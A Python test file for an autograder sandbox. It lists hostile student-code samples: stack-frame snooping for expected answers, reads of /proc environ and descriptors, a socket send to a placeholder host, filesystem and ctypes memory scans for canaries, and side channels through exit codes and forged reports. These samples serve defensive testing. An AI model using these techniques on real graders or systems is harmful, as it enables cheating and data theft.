"""Family B: nothing to steal. Expected answers are nowhere near a job, and hidden inputs do not come back from it.

A hidden input has to reach the function that is asked. What the function can do with it is another table, `LEAKS`: every
way for a student to read it later, in the feedback at level "hint".
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import struct
import sys

import pytest

from autograder import Limits
from autograder.grading.key import make_key
from autograder.grading.words import MOST_ALONE
from autograder.sandbox.host import Sandbox
from autograder.sandbox.jail import allowed_trees
from autograder.sandbox.sitting import sit

from .attacks import (
    FORGE,
    SECRET,
    Attack,
    answer,
    assert_harmless,
    assert_outcome,
    cell,
    grade_table,
    make_course,
    texts,
)

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="hostile code runs in the sandbox of Linux only")

#: Where a job has no root of its own, the file is there and closed.
NO_FILE = "FileNotFoundError|PermissionError"

#: The entries of ATTACKS.md, by their ids.
LISTED = {
    "B-01": answer(
        "import sys\ndef softmax(x): return sys._getframe(1).f_locals['expected']", "EEE", seen="raised KeyError"
    ),
    "B-02": answer(
        """
        import inspect
        def softmax(x):
            return next(v for f in inspect.stack() for k, v in f.frame.f_locals.items() if 'expect' in k)
        """,
        "EEE",
        seen="StopIteration",
    ),
    "B-04": answer("def softmax(x): return np.empty(x.shape)", "FFF"),
    "B-05": answer(
        """
        def softmax(x):
            try: raise ValueError
            except ValueError as e: return e.__traceback__.tb_frame.f_back.f_locals
        """,
        "FFF",
        seen="returned a dict",
    ),
    "B-07": answer(
        """
        import sys
        def softmax(x): return next(m.softmax for n, m in sys.modules.items() if 'solution' in n)(x)
        """,
        "EEE",
    ),
    "B-08": answer(
        """
        def softmax(x):
            import importlib
            return importlib.import_module('exercise_pkg.' + 'sol' + 'utions').softmax(x)
        """,
        "EEE",
        seen="ModuleNotFoundError",
    ),
    "B-08 by file": answer(
        f"""
        def softmax(x):
            import runpy
            return runpy.run_path({os.path.join(os.path.dirname(__file__), "attacks.py")!r})['softmax'](x)
        """,
        "EEE",
        seen="FileNotFoundError|PermissionError",
    ),
    "B-10": cell("import os\nLEAK = dict(os.environ), open('/proc/self/cmdline').read()", NO_FILE),
    "B-11": cell(
        "import os\nppid = os.getppid()\nLEAK = open(f'/proc/{ppid}/environ', 'rb').read(), os.listdir(f'/proc/{ppid}/fd')",
        NO_FILE,
    ),
    "B-13": cell("import sys\nSEEN = []\nsys.settrace(lambda f, e, a: SEEN.append(dict(f.f_locals)))"),
    "B-14": cell(
        """
        real, LOG = np.allclose, []
        def spy(a, b, **k): LOG.append(b); return real(a, b, **k)
        np.allclose = np.array_equal = np.isclose = np.testing.assert_allclose = spy
        """
    ),
    "B-16": cell(
        "from pathlib import Path\nLEAK = [p.read_text() for p in Path('.').rglob('*.ipynb')]\nassert LEAK == []"
    ),
    "B-17": cell("import glob\nLEAK = [open(p).read() for p in glob.glob('../*/*.ipynb')]\nassert LEAK == []"),
    "B-19": cell(
        "import socket\nsocket.create_connection(('192.0.2.1', 80), 3).send(b'hidden input')", "PermissionError|OSError"
    ),
    "B-20": answer("def softmax(x): raise ValueError(repr(x.tolist()))", "EEE", seen="raised ValueError in cell"),
}

#: Landlock lets nobody list the root, so other places are tried one by one.
_OTHER_FILES = f"""
import os
found = []
for place in ("/", "/home", "/root", "/tmp", "/var", {os.path.dirname(os.path.dirname(os.path.dirname(__file__)))!r}):
    for top, folders, files in os.walk(place):
        found += [name for name in files if name.endswith((".ipynb", "checks.py", "marks.csv", "public.json"))]
        if top.count("/") > 6:
            folders.clear()
assert found == [], found
"""

#: Our own: the same cells go without a trace of anything that is worth to be stolen.
INVENTED = {
    "files of the machine": cell(_OTHER_FILES),
    "memory of others": cell("open('/proc/1/mem', 'rb')", NO_FILE),
    "modules of the grader": cell(
        "import sys\nfound = [n for n in sys.modules if n.startswith('autograder.') and n.split('.')[1] in\n"
        "         ('grading', 'records', 'reports', 'cli')]\nassert found == [], found"
    ),
    "import of the grader": answer(
        "def softmax(x):\n    from autograder.grading.key import make_key\n    return make_key",
        "EEE",
        seen="Error in cell",
    ),
    "objects of the whole process": answer(
        """
        import gc
        def softmax(x):
            held = [o for o in gc.get_objects() if type(o).__name__ in ('AnswerKey', 'Case', 'Allowed', 'KeyedCheck')]
            return held[0]
        """,
        "EEE",
        seen="IndexError",
    ),
    "descriptors": cell(
        """
        import os
        kinds = []
        for fd in range(256):
            try: kinds.append(os.fstat(fd).st_mode & 0o170000)
            except OSError: pass
        assert len(kinds) == 4, kinds
        """
    ),
    "next question read ahead": answer(
        """
        def softmax(x):
            os.set_blocking(channel(), False)
            try: return os.read(channel(), 10**6)
            finally: os.set_blocking(channel(), True)
        """,
        "EEE",
        seen="BlockingIOError",
        before=FORGE,
    ),
    "seed": answer(
        """
        def softmax(x):
            np.random.seed(0)
            return np.random.normal(size=x.shape)
        """,
        "FFF",
    ),
}
TABLE = LISTED | INVENTED


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    return grade_table(TABLE, tmp_path_factory.mktemp("b"))


@pytest.mark.parametrize("name", TABLE)
def test_there_is_nothing_to_steal(batch, name):
    assert_outcome(batch.marks[name], TABLE[name])


def test_nobody_else_is_harmed(batch):
    assert_harmless(batch)


# Hidden inputs do not come back ---------------------------------------------------------------------

#: Keeps what `secret` is asked; all questions behind it know it then.
KEEP = """
SEEN = []
def secret(x):
    SEEN.append(int(x[0]))
    return x + 1
"""
IDENTITY = "def softmax(x): return x"
DIGITS = "str(max(SEEN, default=0))"


def leak(source: str, *, question: str = "softmax", before: str = "", after: str = "") -> Attack:
    """A notebook that learns the secret and tries to tell it in its answer to another question."""
    return Attack({"secret": KEEP, question: source}, (before,) if before else (), after=(after,) if after else ())


LEAKS = {
    "message of an exception": leak(f"def softmax(x): raise ValueError({DIGITS})"),
    "name of an exception": leak(f"def softmax(x): raise type('E' + {DIGITS}, (Exception,), {{}})()"),
    "name of a builtin with a tail": leak(
        f"def softmax(x): raise type('ValueError_' + {DIGITS}, (ValueError,), {{}})()"
    ),
    "notes of an exception": leak(
        f"def softmax(x):\n    e = ValueError()\n    e.__notes__ = [{DIGITS}]\n    raise e from KeyError({DIGITS})"
    ),
    "name of a function in the traceback": leak(
        f"def softmax(x): return eval(compile('def f' + {DIGITS} + '(): 1 / 0\\nf' + {DIGITS} + '()', '<cell 3>', 'exec'))"
    ),
    "name of a class": leak(f"def softmax(x): return type('C' + {DIGITS}, (), {{}})()"),
    "module of a class": leak(f"def softmax(x): return type('C', (), {{'__module__': {DIGITS}}})()"),
    "text": leak(f"def softmax(x): return {DIGITS}"),
    "keys of a dict": leak(f"def softmax(x): return {{{DIGITS}: 1}}"),
    "names of a state": leak(f"def train(w, X, y, lr=0.1): return {{{DIGITS}: w}}", question="train"),
    "shape": leak(f"def softmax(x): return np.empty((0, int({DIGITS}[:4]), int({DIGITS}[4:])))"),
    "shape of many axes": leak(f"def softmax(x): return np.empty([0, *map(int, {DIGITS})])"),
    "length of a list": leak(f"def softmax(x): return [0] * int({DIGITS}[:4])"),
    "number of axes": leak(f"def softmax(x): return np.empty((1,) * int({DIGITS}[4:6]))"),
    "name of a dtype": leak(f"def softmax(x): return np.zeros(3, [({DIGITS}, float)])"),
    "width of a dtype": leak(f"def softmax(x): return np.zeros(3, 'S' + {DIGITS}[:4])"),
    "value of a public check": leak(f"def softmax(x): return np.full(x.shape, float({DIGITS}[:4]))"),
    "exception of a public check": leak(f"def double(x): raise ValueError({DIGITS})", question="double"),
    "class in a public check": leak(f"def double(x): return type('C' + {DIGITS}, (), {{}})()", question="double"),
    "exception of a later cell": leak(IDENTITY, after=f"raise ValueError({DIGITS})"),
    "exception of the cell of a missing name": leak(f"raise ValueError({DIGITS})\ndef softmax(x): return x"),
    "syntax of a later cell": leak(
        IDENTITY,
        after=f"e = SyntaxError({DIGITS})\ne.filename, e.lineno, e.msg = '<cell 3>', 1, {DIGITS}\nraise e",
    ),
    "exit of a later cell": leak(IDENTITY, after=f"import os\nos._exit(int({DIGITS}[:3]) % 200)"),
    "output of a later cell": leak(IDENTITY, after=f"print({DIGITS})\nimport sys\nprint({DIGITS}, file=sys.stderr)"),
    "plot of a later cell": leak(
        IDENTITY, after=f"import matplotlib.pyplot as plt\nplt.figure().gca().set_title({DIGITS})\nplt.show()"
    ),
    "exit code": leak("import os\ndef secret(x): os._exit(int(x[0]) // 10**6 if x[0] > 9 else 0)", question="secret"),
    "size of a frame": leak(
        f"def softmax(x): os.write(channel(), struct.pack('<IQ', 7, int({DIGITS}) * 1000)); return x", before=FORGE
    ),
    "lengths of a frame": leak(f"def softmax(x): write(1, bytes(int({DIGITS}[:4]))); return x", before=FORGE),
    "part that nobody asked for": leak(
        f"""
        def softmax(x):
            write(reply("softmax", 0, parts=node(**{{{DIGITS}: 1}})))
        """,
        before=FORGE,
    ),
    "device": leak(
        f"""
        def torch_softmax(x):
            tensor = {{"": "tensor", "dtype": "uint8", "shape": [0], "kind": "Tensor", "device": "cuda:" + {DIGITS},
                       "requires_grad": False}}
            write(reply("torch_softmax", 0, parts=node(output=tensor)))
        """,
        question="torch_softmax",
        before=FORGE,
    ),
    "forged report of the next cell": leak(
        f"""
        def softmax(x):
            for number in range(4):
                write(reply("softmax", number, parts=node(output=1)))
            for index in range(20):
                write(node(**{{"is": "cell"}}, index=index, status="error", message={DIGITS}, traceback=[{DIGITS}]))
            write(node(**{{"is": "cell"}}, index=6, status="error", message={DIGITS}, traceback=[{DIGITS}]))
        """,
        before=FORGE,
    ),
    "line of the cell": leak("def secret(x):\n    exec('\\n' * int(x[0] % 10**4) + '1 / 0')", question="secret"),
    "line of a long cell": Attack(
        {
            "secret": "def secret(x):\n    exec(compile('\\n' * int(x[0] // 10**4) + '1 / 0', '<cell 2>', 'exec'))"
            + "\npass" * 9_000
        }
    ),
    "which of many cells fail": Attack(
        {"secret": KEEP, "softmax": IDENTITY},
        after=tuple(f"if max(SEEN) >> {bit} & 1: 1 / 0" for bit in range(27)),
    ),
    "which of many cells end the job": Attack(
        {"secret": KEEP, "softmax": IDENTITY},
        after=tuple(f"import os\nif max(SEEN, default=0) >> {bit} & 1: os._exit(0)" for bit in range(27)),
    ),
    "which of many cells take memory": Attack(
        {"secret": KEEP, "softmax": IDENTITY},
        after=tuple(f"if max(SEEN, default=0) >> {bit} & 1: bytearray(10**10)" for bit in range(27)),
    ),
    "forged place of an error": leak(
        f"""
        def softmax(x):
            lines = ["cell 3, line 1: " + {DIGITS}]
            write(reply("softmax", 0, error="ValueError: " + {DIGITS}, reason={DIGITS}, traceback=lines))
        """,
        before=FORGE,
    ),
    "file of a later job": leak(
        f"import os\ndef softmax(x): open('/scratch/leak', 'w').write({DIGITS}); os._exit(0)",
        after="raise ValueError(open('/scratch/leak').read())",
    ),
    "public checks that wait for the hidden ones": leak(
        f"""
        import sys, gc
        def softmax(x):
            probes = [o for o in gc.get_objects() if type(o).__name__ == "Call"]
            raise ValueError(str([float(np.asarray(p.kwargs.get("x", 0)).flat[0]) for p in probes]) + {DIGITS})
        """
    ),
}


@pytest.fixture(scope="module")
def leaks(tmp_path_factory):
    return grade_table(LEAKS, tmp_path_factory.mktemp("leaks"))


@pytest.mark.parametrize("name", LEAKS)
def test_hidden_inputs_are_not_told_at_level_hint(leaks, name):
    mark = leaks.marks[name]
    assert mark.status == "graded"
    told = "\n".join(texts(mark)).replace(",", "")
    for digits in (str(SECRET), str(SECRET)[:4], str(SECRET)[4:], "7, 3, 9", "(exit code 73)"):
        assert digits not in told, told
    assert mark.hundredths < mark.max_hundredths or LEAKS[name].after


@pytest.mark.parametrize("name", [name for name in LEAKS if name.startswith("which of many")])
def test_cells_that_fail_for_hidden_inputs_do_not_spell_them_out(leaks, name):
    assert SECRET.bit_count() > MOST_ALONE
    assert 0 < len(leaks.marks[name].cells) <= MOST_ALONE


@pytest.mark.parametrize(
    "name", ["message of an exception", "exception of a public check", "exception of a later cell"]
)
def test_what_code_says_without_hidden_inputs_is_told(leaks, name):
    """In a sitting that asks the public checks alone, `secret` has seen nothing but a 1."""
    assert any(re.match(r"ValueError: 1 \(cell \d+, line 1: ", text) for text in texts(leaks.marks[name]))


def test_nobody_else_is_harmed_by_leaks(leaks):
    assert_harmless(leaks)


# Canaries -------------------------------------------------------------------------------------------

#: Reads all memory of the job that it can find its way to without a list of what is mapped: the kernel refuses to write
#: from an address that is not. What is looked for comes in halves, the second reversed: looking must not put it there.
WALK = """
import ctypes, gc, json, os
libc = ctypes.CDLL(None)
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
libc.write.restype = ctypes.c_ssize_t
PAGE, CHUNK, KEPT = 4096, 2**20, 64
PLANTED = "".join(["planted-by", "-the-student"])  # proves that what is there is found

def read(file, address, size):
    file.seek(0)
    size = libc.write(file.fileno(), address, size)
    file.seek(0)
    return file.read(size) if size > 0 else b""

def memory():
    environment = ctypes.POINTER(ctypes.c_void_p).in_dll(libc, "environ")[0]
    arrays = [np.zeros(10**n) for n in range(7)]
    anchors = [environment, id(None), id(PLANTED), ctypes.cast(libc.write, ctypes.c_void_p).value]
    anchors += [id(o) for o in gc.get_objects()[::20]] + [a.ctypes.data for a in arrays]
    done = []
    with open("walk", "w+b", buffering=0) as file:
        for anchor in anchors:
            if any(start <= anchor < end for start, end in done):
                continue
            start = end = anchor // PAGE * PAGE
            while read(file, start - PAGE, 1):
                start -= PAGE
            at, before = start, b""
            while data := read(file, at, CHUNK):
                yield before + data
                at, before = at + len(data), data[-KEPT:]
            done.append((start, max(at, anchor + 1)))

def environment():
    yield from (f"{name}={value}".encode() for name, value in os.environ.items())

def files():
    # Landlock lets nobody list the root, so other places where something may lie are tried one by one.
    tops = ["/", ".", "/dev", "/etc", "/home", "/proc", "/root", "/run", "/sys", "/tmp", "/var", *SECRET_PATHS]
    found = [os.path.join(top, name) for top in tops for top, _, names in os.walk(top) for name in names]
    for path in [*SECRET_PATHS, *found]:
        if not any(path.startswith(tree + "/") for tree in TREES):
            yield path.encode("utf-8", "surrogateescape")
            try:
                fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                yield os.read(fd, CHUNK)
            except OSError:
                pass
            os.close(fd)

def descriptors():
    # Without waiting; the channel has nothing but the question being asked.
    for fd in range(256):
        try:
            blocking = os.get_blocking(fd)
            os.set_blocking(fd, False)
            try:
                yield os.read(fd, CHUNK)
            except OSError:
                pass
            os.set_blocking(fd, blocking)
        except OSError:
            pass

def walk():
    halves = {name: (bytes.fromhex(a), bytes.fromhex(b)) for name, (a, b) in HALVES.items()}
    found = {}
    for place in (environment, descriptors, files, memory):
        found[place.__name__] = {"bytes": 0, "seen": []}
        for data in place():
            found[place.__name__]["bytes"] += len(data)
            for name, (first, last) in halves.items():
                at = data.find(first)
                while at >= 0:
                    end = at + len(first)
                    if data[end : end + len(last)][::-1] == last and name not in found[place.__name__]["seen"]:
                        found[place.__name__]["seen"].append(name)
                    at = data.find(first, at + 1)
    return json.dumps(found)

with open("planted.txt", "w") as file:
    file.write(PLANTED)
FOUND = []
def secret(x):
    os.environ["PLANTED"] = PLANTED
    FOUND.append(FOUND[0] if FOUND else walk())
    return FOUND[0]
"""


def halves(canary: bytes) -> tuple[str, str]:
    """Both halves as digits, the second one from its end."""
    middle = len(canary) // 2
    return canary[:middle].hex(), canary[middle:][::-1].hex()


@pytest.mark.slow
def test_no_canary_is_within_reach_of_a_job(tmp_path, monkeypatch):
    """Not what the grader knows, what it will ask, or what others handed in: not in memory, environment, files, descriptors."""
    monkeypatch.setenv("AUTOGRADER_CANARY", "canary-in-the-environment")
    gradebook = tmp_path / "the-gradebook.sqlite"
    gradebook.write_text("canary-in-the-gradebook")
    gradebook.chmod(0o644)
    assignment = make_course(tmp_path)
    with assignment.checks_file.open("a", encoding="utf-8") as file:
        file.write("# canary-in-the-checks\n")
    limits = Limits(step_s=60, submission_s=100, memory_mib=256, scratch_mib=16)
    seed = 6_838_211_999_431_217_219
    with (
        Sandbox(limits, secret=[assignment.folder]) as sandbox,
        contextlib.closing(sandbox.slot()) as slot,
    ):
        key = make_key(assignment, seed, slot, limits)
        questions = {q.name: q for q in key.questions}
        expected = questions["inverse"].checks[1].cases[0].expected["output of call 1"]
        inquiries = [q.inquiry for q in key.questions]
        neighbour = [(1, "x = 'canary-in-another-' 'notebook'"), *enumerate(Attack().sources(), start=2)]
        assert {o.kind for o in sit(slot, neighbour, inquiries, limits).answers["double"]} == {"answer"}
        wanted = {
            "planted": b"planted-by-the-student",
            "environment": b"canary-in-the-environment",
            "gradebook": b"canary-in-the-gradebook",
            "checks": b"canary-in-the-checks",
            "notebook": b"canary-in-another-notebook",
            "seed as text": str(seed).encode(),
            "seed as number": struct.pack("<q", seed),
            "expected answer": expected[0, 0].tobytes(),
            "another expected answer": expected[1, 0].tobytes(),
            # A frame ends with its arrays, and the hidden check is the last one of its question.
            "input of a later question": questions["inverse"].inquiry.frame[-16:-8],
            "input of another question": questions["relu_backward"].inquiry.frame[-16:-8],
        }
        assert questions["secret"] is key.questions[0]
        known = f"HALVES = { ({name: halves(text) for name, text in wanted.items()})!r}\nTREES = {allowed_trees()!r}"
        known += f"\nSECRET_PATHS = {[str(gradebook), str(tmp_path), str(assignment.checks_file), __file__]!r}"
        cells = [f"import numpy as np\n{known}", WALK]
        transcript = sit(slot, list(enumerate(cells, start=1)), inquiries, limits)
    assert transcript.jobs == 1, transcript
    (outcome, *_) = transcript.answers["secret"]
    assert outcome.kind == "answer", outcome
    found = json.loads(next(iter(outcome.parts.values())))
    # What is there is found: the student's own, wherever it was put.
    assert {place: there["seen"] for place, there in found.items()} == {
        "environment": ["planted"],
        "descriptors": [],
        "files": ["planted"],
        "memory": ["planted"],
    }
    assert found["memory"]["bytes"] > 50 * 2**20
